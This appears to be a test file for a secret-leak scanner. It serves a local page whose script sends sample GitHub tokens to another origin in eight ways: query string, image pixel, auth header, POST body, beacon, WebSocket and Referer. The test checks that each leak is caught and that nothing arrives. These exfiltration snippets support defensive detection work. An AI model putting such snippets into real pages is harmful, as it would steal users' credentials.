// A token on its way to another origin is a finding under the way it took, with the line of code that sent it.

import { DEFAULT_SALT, fingerprint, Secret, type Place, type Report } from '@leakgate/core';
import { sample } from '@leakgate/fixture-tokens';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { crawled } from './crawled.ts';
import { listenOutside, type Outside } from './outside.ts';
import { concealed } from './target/conceal.ts';
import { html, script, type Routes } from './target/route.ts';
import { serveRoutes, type Served } from './target/server.ts';

/** A way out: its code, given the token as an expression, and the surface that must name it. */
interface WayOut {
  readonly name: string;
  readonly surface: Place['surface'];
  readonly code: (token: string) => string;
  /** The file that the browser names: of pictures it tells only which script element was running. */
  readonly by?: string;
  /** Where it goes: an origin that nothing may reach, or one that is read. */
  readonly to: 'outside' | 'read';
}

const quiet = (call: string): string => `${call}.catch(() => 0);`;

/** One line of the page's script each. */
const WAYS: readonly WayOut[] = [
  {
    name: 'address',
    surface: 'request-url',
    to: 'outside',
    code: (token) => quiet(`fetch(out + '/list?access_token=' + ${token}, { mode: 'no-cors' })`),
  },
  {
    name: 'picture',
    by: '/send\\?key=…\\(40\\)',
    surface: 'request-url',
    to: 'outside',
    code: (token) => `new Image().src = out + '/pixel.gif?t=' + ${token};`,
  },
  {
    name: 'header',
    surface: 'request-header',
    to: 'outside',
    code: (token) => quiet(`fetch(out + '/me', { headers: { authorization: 'Bearer ' + ${token} } })`),
  },
  {
    name: 'body',
    surface: 'request-body',
    to: 'outside',
    code: (token) => quiet(`fetch(out + '/save', { method: 'POST', body: JSON.stringify({ token: ${token} }) })`),
  },
  {
    name: 'beacon',
    surface: 'request-body',
    to: 'outside',
    code: (token) => `navigator.sendBeacon(out + '/beacon', 'token=' + ${token});`,
  },
  {
    name: 'socket address',
    surface: 'request-url',
    to: 'outside',
    code: (token) => `new WebSocket(out.replace('http', 'ws') + '/socket?token=' + ${token});`,
  },
  {
    name: 'socket message',
    surface: 'websocket',
    to: 'read',
    code: (token) =>
      `const chat = new WebSocket(read.replace('http', 'ws') + '/chat'); chat.onopen = () => chat.send(${token});`,
  },
  {
    // The token stands in the address of the page itself.
    name: 'referer',
    surface: 'request-header',
    to: 'outside',
    code: () => quiet(`fetch(out + '/from', { mode: 'no-cors', referrerPolicy: 'unsafe-url' })`),
  },
];

const token = (name: string): string => sample('github-pat-classic', `egress ${name}`).value;

let outside: Outside;
let served: Served;
let report: Report;

function routes(read: string): Routes {
  const head = `const out = 'http://${outside.host}', read = '${read}';`;
  const lines = WAYS.map(({ name, code }) => code(concealed(token(name))));
  return {
    '/': html(`<a href="/send?key=${token('referer')}">send</a>`),
    '/send': html('<script src="/js/send.js"></script>'),
    '/js/send.js': script([head, ...lines].join('\n')),
  };
}

beforeAll(async () => {
  outside = await listenOutside();
  served = await serveRoutes(routes);
  report = await crawled(`${served.origin}/`, { readOrigin: [served.other] });
});

afterAll(async () => {
  await Promise.all([served.close(), outside.close()]);
});

test.for(WAYS.map((way, at) => ({ ...way, by: way.by ?? `/js/send\\.js:${at + 2}` })))(
  '$name',
  ({ name, surface, to, by }) => {
    const wanted = fingerprint(new Secret(token(name)), DEFAULT_SALT);
    const finding = report.findings.find((each) => each.fingerprint === wanted);
    expect(finding).toMatchObject({ rule: 'github-pat-classic', verdict: 'error' });
    const receiver = to === 'outside' ? outside.host : new URL(served.other).host;
    const place = finding?.places.find(
      (each) => each.surface === surface && URL.parse(each.artifact)?.host === receiver,
    );
    expect(place?.initiator).toMatch(new RegExp(`^${served.origin}${by}:`));
  },
);

test('nothing of it arrived, and nothing is printed', () => {
  expect(outside.connections()).toBe(0);
  const text = JSON.stringify(report);
  expect(WAYS.filter(({ name }) => text.includes(token(name).slice(8)))).toEqual([]);
});
